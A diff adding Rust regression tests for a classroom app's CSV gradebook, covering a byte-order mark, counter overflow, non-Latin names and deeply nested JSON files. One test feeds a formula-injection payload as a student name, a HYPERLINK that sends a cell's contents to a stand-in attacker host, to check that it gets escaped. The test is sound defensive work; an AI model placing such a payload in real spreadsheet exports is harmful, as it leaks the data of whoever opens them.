@@ -135,6 +135,8 @@ fn csv_columns_and_values_for_a_known_class() {
     let files = write_class(d.path(), 3, &lesson, &corpus);
     let report = grade(&lesson, &corpus, &files);
     let text = csv(&report, &lesson);
+    // A UTF-8 byte-order mark first, so spreadsheets read the names as UTF-8.
+    let text = text.strip_prefix('\u{FEFF}').expect("a BOM");
     let rows: Vec<Vec<&str>> = text.lines().map(|l| l.split(',').collect()).collect();
     assert_eq!(
         rows[0],
@@ -402,4 +404,194 @@ fn cli_grade_writes_the_csv_and_a_summary() {
     assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
     let (lessons, _) = lateral::pack::open_pack(&std::fs::read_to_string(&pack).expect("pack"), "exam").expect("opens");
     assert_eq!(lessons[0].id, "bias");
+}
+
+/// The gradebook as a spreadsheet reads it: the BOM dropped, then `csv::Reader`.
+fn read_csv(text: &str) -> Vec<Vec<String>> {
+    let body = text.strip_prefix('\u{FEFF}').expect("a BOM");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(body.as_bytes())
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// A hand-edited results file with `hints_used` near `u32::MAX` in two steps: the gradebook
+/// total wrapped round (4294967293 hints; a debug build panicked on the overflow). Now each
+/// counter past 10,000 is taken as 10,000 with a warning, and totals add up saturating.
+#[test]
+fn regression_hint_counter_wraps_in_gradebook_total() {
+    let (lesson, corpus) = bias_lesson();
+    let d = tempfile::tempdir().expect("tempdir");
+    let mut r = results_for(1, &lesson, &corpus);
+    r.steps[0].hints_used = u32::MAX - 1;
+    r.steps[1].hints_used = u32::MAX;
+    r.steps[1].attempts = u32::MAX;
+    r.steps[2].seconds = Some(u64::MAX);
+    r.steps[3].seconds = Some(u64::MAX - 5);
+    let p = d.path().join("edited.json");
+    r.save(&p).expect("saved");
+    let report = grade(&lesson, &corpus, &[p]);
+    assert_eq!(report.graded.len(), 1);
+    let warnings: Vec<&str> = report.diagnostics.iter().map(|d| d.message.as_str()).collect();
+    assert!(
+        warnings.contains(&"`hints_used` is 4294967294, more hints than a step can count; it is counted as 10000"),
+        "{warnings:#?}"
+    );
+    assert!(
+        warnings.iter().any(|w| w.starts_with("`attempts` is 4294967295")),
+        "{warnings:#?}"
+    );
+    assert!(
+        warnings
+            .iter()
+            .any(|w| w.starts_with("`seconds` is 18446744073709551615")),
+        "{warnings:#?}"
+    );
+    assert!(report.diagnostics.iter().all(|d| !d.is_error()));
+    let rows = read_csv(&csv(&report, &lesson));
+    let total = rows.iter().find(|r| r[2] == "TOTAL").expect("total");
+    let n = lesson.steps.len() as u64;
+    // Hints: 10,000 + 10,000 + 1 for every other step (student 1 used one hint per step).
+    assert_eq!(total[8], (20_000 + (n - 2)).to_string());
+    assert_eq!(total[9], (10_000 + (n - 1)).to_string());
+    let month = lateral::results::MAX_STEP_SECONDS;
+    assert_eq!(total[10], (2 * month + 150 * (n - 2)).to_string());
+    let step1 = rows.iter().find(|r| r[2] == lesson.steps[1].id).expect("row");
+    assert_eq!(step1[8], "10000");
+}
+
+/// A student named `=HYPERLINK(...)` ran a formula in the teacher's spreadsheet. Text cells
+/// that start with `=`, `+`, `-`, `@`, a tab or a carriage return now get a leading `'`.
+#[test]
+fn regression_csv_formula_injection_in_student_name() {
+    let (lesson, corpus) = bias_lesson();
+    let d = tempfile::tempdir().expect("tempdir");
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\ty",
+        "\rx",
+        "Ana, \"the\" =best",
+    ];
+    let files: Vec<PathBuf> = names
+        .iter()
+        .enumerate()
+        .map(|(i, n)| {
+            let mut r = results_for(i, &lesson, &corpus);
+            r.student = n.to_string();
+            let p = d.path().join(format!("s{i}.json"));
+            r.save(&p).expect("saved");
+            p
+        })
+        .collect();
+    let report = grade(&lesson, &corpus, &files);
+    assert_eq!(report.graded.len(), names.len(), "{:#?}", report.diagnostics);
+    let rows = read_csv(&csv(&report, &lesson));
+    let students: Vec<&str> = rows
+        .iter()
+        .skip(1)
+        .filter(|r| r[2] == "TOTAL")
+        .map(|r| r[0].as_str())
+        .collect();
+    assert_eq!(
+        students,
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "'+1",
+            "'-2+3",
+            "'@SUM(A1:A9)",
+            "'\ty",
+            "'\rx",
+            "Ana, \"the\" =best",
+        ]
+    );
+    // Every row has the 11 columns; the numbers the app writes stay numbers.
+    assert!(rows.iter().all(|r| r.len() == 11));
+    let total = rows.iter().find(|r| r[2] == "TOTAL").expect("total");
+    assert!(total[4].parse::<f64>().is_ok(), "{total:?}");
+    assert_eq!(lateral::grade::text_cell("-0.5"), "'-0.5");
+    assert_eq!(lateral::grade::text_cell("Zoë"), "Zoë");
+}
+
+/// Polish and Ukrainian names come back letter for letter through a CSV reader (and the BOM
+/// makes Excel read them as UTF-8).
+#[test]
+fn polish_and_ukrainian_names_round_trip_through_the_gradebook() {
+    let (lesson, corpus) = bias_lesson();
+    let d = tempfile::tempdir().expect("tempdir");
+    let names = ["Zażółć Gęślą-Jaźń", "Олександра Ґалаґан-Їжак"];
+    let files: Vec<PathBuf> = names
+        .iter()
+        .enumerate()
+        .map(|(i, n)| {
+            let mut r = results_for(i + 1, &lesson, &corpus);
+            r.student = n.to_string();
+            let p = d.path().join(format!("s{i}.json"));
+            r.save(&p).expect("saved");
+            p
+        })
+        .collect();
+    let report = grade(&lesson, &corpus, &files);
+    let text = csv(&report, &lesson);
+    assert!(text.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]));
+    let rows = read_csv(&text);
+    assert_eq!(rows[0][0], "student");
+    let students: Vec<&str> = rows.iter().filter(|r| r[2] == "TOTAL").map(|r| r[0].as_str()).collect();
+    assert_eq!(students, names);
+}
+
+/// `lateral grade` on a folder with a results file nested 100,000 levels deep (in a field the
+/// app does not read, and unclosed) beside a good one: the good one is graded, the bad ones
+/// are reported with their place, and nothing overflows the stack.
+#[test]
+fn regression_cli_grade_continues_past_a_deeply_nested_file() {
+    let (lesson, corpus) = bias_lesson();
+    let d = tempfile::tempdir().expect("tempdir");
+    let class = d.path().join("class");
+    std::fs::create_dir_all(&class).expect("dir");
+    results_for(2, &lesson, &corpus)
+        .save(&class.join("good.json"))
+        .expect("saved");
+    let n = 100_000;
+    std::fs::write(class.join("deep.json"), "[".repeat(n)).expect("written");
+    let good_json = results_for(3, &lesson, &corpus).to_json();
+    let hidden = good_json.replacen(
+        "\"format\"",
+        &format!("\"junk\": {}{},\n  \"format\"", "[".repeat(n), "]".repeat(n)),
+        1,
+    );
+    std::fs::write(
+        class.join("hidden.json"),
+        hidden.replace("\"Student 03\"", "\"Student 03\", \"x\": 1"),
+    )
+    .expect("written");
+    std::fs::write(class.join("unclosed.json"), format!("{{\"junk\": {}", "[".repeat(n))).expect("written");
+    let csv_path = d.path().join("grades.csv");
+    let o = Command::new(env!("CARGO_BIN_EXE_lateral"))
+        .args(["grade", "--lesson"])
+        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("lessons/02-bias.md"))
+        .arg("--csv")
+        .arg(&csv_path)
+        .arg(&class)
+        .output()
+        .expect("runs");
+    let stdout = String::from_utf8_lossy(&o.stdout);
+    let stderr = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(1), "{stdout}\n{stderr}");
+    assert!(
+        stdout.contains("2 student(s) graded, 2 file(s) skipped"),
+        "{stdout}\n{stderr}"
+    );
+    assert!(stderr.contains("deep.json:1:1"), "{stderr}");
+    assert!(stderr.contains("one JSON object, starting with `{`"), "{stderr}");
+    assert!(stderr.contains("unclosed.json:1:"), "{stderr}");
+    assert!(stderr.len() < 10_000, "{} bytes of messages", stderr.len());
+    let rows = read_csv(&std::fs::read_to_string(&csv_path).expect("csv"));
+    let mut students: Vec<&str> = rows.iter().filter(|r| r[2] == "TOTAL").map(|r| r[0].as_str()).collect();
+    students.sort();
+    assert_eq!(students, ["Student 02", "Student 03"]);
 }
